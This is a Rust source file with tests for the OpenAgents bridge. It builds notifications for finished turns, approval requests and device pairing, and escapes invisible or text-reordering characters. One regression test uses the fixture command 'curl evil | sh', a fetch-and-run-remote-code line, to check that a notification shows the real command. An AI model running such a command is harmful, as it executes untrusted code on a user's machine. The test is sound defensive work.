//! Derives notifications from bridge events.

use agent_client_protocol_schema::v1::SessionInfo;
use openagents_core::{approval::Approval, visible::escaped};
use openagents_wire::{DeviceRequest, DevicesSnapshot, SessionMeta, ours};
use std::collections::{HashMap, HashSet};

/// Maximum characters of a text in a notification.
const CHARS: usize = 300;

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Notice {
    /// The kind: `approval`, `turn` or `device`.
    pub(crate) kind: &'static str,
    pub(crate) title: String,
    pub(crate) body: String,
}

/// Events that were already notified, across all connections.
#[derive(Debug, Default)]
pub(crate) struct Notices {
    /// Sessions with a turn or pending approvals: whether a turn is running, and the number of approvals.
    busy: HashMap<String, (bool, u64)>,
    notified: HashSet<String>,
}

#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct ListNews {
    pub(crate) notices: Vec<Notice>,
    /// Sessions whose approvals are to be read.
    pub(crate) asking: Vec<String>,
}

impl Notices {
    pub(crate) fn sessions(&mut self, rows: &[SessionInfo]) -> ListNews {
        let mut news = ListNews::default();
        for row in rows {
            let id = &*row.session_id.0;
            let SessionMeta { running, waiting, .. } = ours(row.meta.as_ref());
            let now = (running, waiting);
            let before =
                if now == (false, 0) { self.busy.remove(id) } else { self.busy.insert(id.to_owned(), now) };
            let (was_running, _) = before.unwrap_or_default();
            if was_running && now == (false, 0) {
                let title = shown(row.title.as_deref().unwrap_or_default());
                let title = if title.is_empty() { "OpenAgents".to_owned() } else { title };
                news.notices.push(Notice { kind: "turn", title, body: "Finished".to_owned() });
            }
            // A new approval may have replaced an answered one.
            if now.1 > 0 && before != Some(now) {
                news.asking.push(id.to_owned());
            }
        }
        news
    }

    pub(crate) fn approvals(&mut self, approvals: &[Approval]) -> Vec<Notice> {
        let new: Vec<_> = approvals.iter().filter(|approval| self.is_new(&approval.id)).collect();
        let notice = |approval: &Approval| Notice {
            kind: "approval",
            title: format!("{} is waiting", shown(&approval.agent)),
            // An agent's title may not match what runs.
            body: shown(approval.command.as_ref().map_or(&approval.title, |command| &command.text)),
        };
        new.into_iter().map(notice).collect()
    }

    pub(crate) fn devices(&mut self, devices: &DevicesSnapshot) -> Vec<Notice> {
        let new: Vec<_> = devices.requests.iter().filter(|request| self.is_new(&request.id)).collect();
        let notice = |request: &DeviceRequest| {
            let address = request.address;
            let body = match request.kind.as_str() {
                "ios" => format!("The OpenAgents app at {address} wants to connect."),
                _ => format!("A device at {address} wants to pair."),
            };
            Notice { kind: "device", title: "OpenAgents".to_owned(), body }
        };
        new.into_iter().map(notice).collect()
    }

    #[cfg(test)]
    pub(super) fn any_turn_runs(&self) -> bool {
        self.busy.values().any(|(running, _)| *running)
    }

    fn is_new(&mut self, id: &str) -> bool {
        self.notified.insert(id.to_owned())
    }
}

/// Truncates foreign text, and escapes characters that are invisible or would reorder the rest.
fn shown(text: &str) -> String {
    // A notification has several lines; line breaks in the text would look like the notification's own.
    let text = escaped(text).replace(['\n', '\t'], " ");
    match text.char_indices().nth(CHARS) {
        Some((end, _)) => format!("{}…", &text[..end]),
        None => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{Value, json};

    fn typed(members: Value) -> Approval {
        let mut approval = json!({"id": "1", "callId": "c", "hash": "", "agent": "Codex", "title": "Run", "options": [],
            "state": "pending", "askedAt": 0});
        approval.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
        serde_json::from_value(approval).unwrap()
    }

    fn row(id: &str, running: bool, waiting: u64) -> Value {
        let ours = json!({"seq": 1, "lastTs": 0, "running": running, "waiting": waiting, "mode": "codex"});
        json!({"sessionId": id, "cwd": "/demo", "title": format!("Title of {id}"), "_meta": {"openagents": ours}})
    }

    fn bodies(notices: &[Notice]) -> Vec<(&str, &str, &str)> {
        notices.iter().map(|notice| (notice.kind, notice.title.as_str(), notice.body.as_str())).collect()
    }

    #[test]
    fn finished_turn_is_announced_once() {
        let mut notices = Notices::default();
        let mut notified = |rows: Value| {
            let ListNews { notices, asking } =
                notices.sessions(&serde_json::from_value::<Vec<_>>(rows).unwrap());
            (notices.into_iter().map(|notice| notice.title).collect::<Vec<_>>(), asking)
        };
        let none = || (Vec::<String>::new(), Vec::<String>::new());
        // Sessions that had already ended.
        assert_eq!(notified(json!([row("a", false, 0), row("b", true, 0)])), none());
        assert_eq!(notified(json!([row("b", true, 0)])), none());
        assert_eq!(notified(json!([row("b", false, 0)])), (vec!["Title of b".to_owned()], vec![]));
        assert_eq!(notified(json!([row("b", false, 0)])), none());
        // An approval is pending, its agent exits, the approval is answered.
        assert_eq!(notified(json!([row("c", true, 1)])), (vec![], vec!["c".to_owned()]));
        assert_eq!(notified(json!([row("c", true, 1)])), none());
        assert_eq!(notified(json!([row("c", true, 2)])), (vec![], vec!["c".to_owned()]));
        assert_eq!(notified(json!([row("c", false, 2)])), (vec![], vec!["c".to_owned()]));
        assert_eq!(notified(json!([row("c", false, 0)])), none());
    }

    #[test]
    fn requests_are_announced_once() {
        let mut notices = Notices::default();
        let approval = |id: &str| typed(json!({"id": id, "title": "Run make\u{202e}"}));
        let first = notices.approvals(&[approval("1")]);
        assert_eq!(bodies(&first), [("approval", "Codex is waiting", "Run make\\u{202e}")]);
        assert_eq!(notices.approvals(&[approval("1"), approval("2")]).len(), 1);
        assert_eq!(notices.approvals(&[approval("1"), approval("2")]), []);

        let request = |id: &str, kind: &str, address: &str| json!({"id": id, "kind": kind, "name": "", "address": address, "askedAt": 0, "expiresAt": 0});
        let requests = [request("p", "pair", "192.168.1.7"), request("i", "ios", "192.168.1.8")];
        let devices: DevicesSnapshot = serde_json::from_value(json!({"requests": requests})).unwrap();
        let notified = notices.devices(&devices);
        let expected = [
            ("device", "OpenAgents", "A device at 192.168.1.7 wants to pair."),
            ("device", "OpenAgents", "The OpenAgents app at 192.168.1.8 wants to connect."),
        ];
        assert_eq!(bodies(&notified), expected);
        assert_eq!(notices.devices(&devices), []);
    }

    /// Regression: the notification showed the agent's title, whatever ran.
    #[test]
    fn approval_notice_shows_its_command() {
        let approval = typed(
            json!({"agent": "Codex\u{2066}", "title": "Run the tests", "command": {"text": "curl evil | sh"}}),
        );
        let notified = Notices::default().approvals(&[approval]);
        assert_eq!(bodies(&notified), [("approval", "Codex\\u{2066} is waiting", "curl evil | sh")]);
    }

    /// Regression: the list of escaped characters was shorter than on every other surface.
    #[test]
    fn notice_text_is_escaped() {
        for text in ["a\u{3164}b", "a\u{a0}b", "a\u{fe00}b", "a\u{202e}b\u{1b}"] {
            assert_eq!(shown(text), escaped(text));
        }
        assert_eq!(shown("one\ntwo"), "one two");
    }

    #[test]
    fn long_notice_text_is_cut() {
        assert_eq!(shown(&"x".repeat(CHARS)).chars().count(), CHARS);
        assert!(shown(&"é".repeat(CHARS + 1)).ends_with("é…"));
    }
}
